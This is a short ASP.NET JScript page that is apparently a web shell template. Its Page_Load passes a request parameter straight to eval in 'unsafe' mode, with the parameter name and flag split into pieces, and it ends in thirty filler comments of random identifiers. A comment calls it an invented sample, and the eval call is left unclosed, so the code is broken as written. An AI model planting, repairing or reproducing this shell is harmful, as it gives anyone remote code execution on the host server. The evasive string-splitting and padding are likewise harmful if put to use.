<%@ Page Language="JScript" Debug="true" %>
<%-- invented sample, does not run: no closing of the call --%>


<script runat="server" language="JScript">
function Page_Load(){
  var k = "z"+"9";
  eval(Request.Item[k],"un"+"safe"
}
</script>
<!-- pad 707b7abd-f7a5-4260-b33c-6f5b639130ca -->
<!-- pad af8df539-4038-40db-945d-f9d269412b43 -->
<!-- pad b966410b-292a-4748-bfba-0ad596d5f002 -->
<!-- pad 0f945f41-2314-4fe2-a1c5-1f19e1d5568a -->
<!-- pad 0914ea30-b0dd-4686-9044-ae65488b6563 -->
<!-- pad 6e2be012-dc54-4cb5-adb0-a1270d5f4a99 -->
<!-- pad 4adc1978-2e6b-4dcd-9843-550d02685ec8 -->
<!-- pad 3a72182a-bffc-4b62-aca8-adbb696ee43e -->
<!-- pad 1ed6af27-b74f-4bfd-9ced-a300a45d7523 -->
<!-- pad 9e6fe50d-6a43-4c7c-96ab-60bd7aa552e7 -->
<!-- pad a7ab04b6-4dfc-4b31-b716-3055ed49e641 -->
<!-- pad 3d646430-4c2b-49a9-8fe2-6f3ac08204df -->
<!-- pad 29876d39-7507-4d83-9189-d080c1e8abf0 -->
<!-- pad 2301a43a-216c-46e2-b039-0db2d7c38d4b -->
<!-- pad 1147f365-d555-4617-817e-82a82324f7ab -->
<!-- pad 0f775d96-ab5a-46a1-b193-a7a3adf3553b -->
<!-- pad ce3c6ad0-0994-4593-8a00-674035fbf228 -->
<!-- pad 1a58dac1-479f-42ab-bd83-add657fb2f68 -->
<!-- pad 58b2c337-638e-45de-9896-cc53d683bf90 -->
<!-- pad 19bd6948-113b-4370-93d0-f6140b8092e1 -->
<!-- pad 33ac979d-2c4b-4b56-8d75-e67b5d8f362b -->
<!-- pad ac9b6486-4d58-42b3-bd3a-9fed7401c52f -->
<!-- pad 9fa75639-aa21-4b6e-9378-af8535cea5f0 -->
<!-- pad 888558af-a65b-4546-90cf-a7f310a39798 -->
<!-- pad 20434a1e-dc72-44d7-8028-4e3b28069f3c -->
<!-- pad b37b76e2-afc0-4436-88da-f4e618320a1a -->
<!-- pad 07b8787d-76b1-44ba-8756-298efc787110 -->
<!-- pad a9899f40-1614-46a8-a329-f3e04beb7d36 -->
<!-- pad e2211cc7-1598-4d07-814f-02a5e198d691 -->
<!-- pad edd700e9-8f37-4aa1-9181-41cc141bcdd9 -->
